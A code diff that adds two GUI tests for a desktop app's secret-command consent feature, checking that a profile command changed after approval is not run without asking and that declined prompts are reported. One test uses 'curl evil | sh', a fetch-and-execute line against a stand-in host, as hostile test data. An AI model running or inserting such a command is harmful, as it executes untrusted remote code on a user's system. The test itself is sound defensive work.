@@ -215,6 +215,47 @@ def test_a_command_asks_also_in_one_s_own_profile(
     qtbot.waitUntil(lambda: len(check.secrets) == 1)
 
 
+def test_a_command_that_was_typed_just_now_is_not_asked_about_and_later_neither(
+    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path
+) -> None:
+    check = noting()
+    store.save_in(tmp_path / "profiles", ASKED)
+    desktop = make_desktop(check)
+    qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 1)
+    desktop.workbench.profiles.choose(ASKED.id)
+    typed = {PASSWORD: SecretSource(place="command", command="pass show db")}
+    desktop.window.pages.edited.emit("secrets", typed)
+    desktop.workbench.test()
+    qtbot.waitUntil(lambda: len(check.secrets) == 1)
+    own = desktop.workbench.profiles.current.profile
+    assert Agreements(desktop.workbench.consents._agreements.file).may_run(own, "pass show db")
+    desktop.workbench.profiles.current.set_profile(replace(own, secrets={}))
+    desktop.workbench.profiles.current.set_profile(
+        replace(own, secrets={PASSWORD: SecretSource(place="command", command="curl evil | sh")})
+    )
+    qtbot.waitUntil(lambda: not desktop.workbench.profiles.current.running)
+    desktop.workbench.test()
+    asked(qtbot, desktop)
+    assert len(check.secrets) == 1, "what no form was told is not typed"
+
+
+def test_what_was_declined_is_said_under_the_text(
+    qtbot: QtBot, make_desktop: Callable[..., Any], tmp_path: Path, sent: Any
+) -> None:
+    desktop = make_desktop(noting())
+    opened(qtbot, desktop, sent)
+    desktop.workbench.test()
+    answer(qtbot, desktop, "Cancel")
+    assert "Nothing was contacted" in desktop.window.connection.said.text
+    store.save_in(tmp_path / "profiles", ASKED)
+    desktop.workbench.storage.load_list()
+    qtbot.waitUntil(lambda: desktop.window.profiles.model.profile_row(ASKED.id) is not None)
+    desktop.workbench.profiles.choose(ASKED.id)
+    desktop.workbench.test()
+    asked(qtbot, desktop, SecretsDialog).reject()
+    assert "password was not typed" in desktop.window.connection.said.text
+
+
 def test_watching_asks_as_testing_does(qtbot: QtBot, make_desktop: Callable[..., Any], sent: Any) -> None:
     desktop = make_desktop(noting())
     opened(qtbot, desktop, sent)
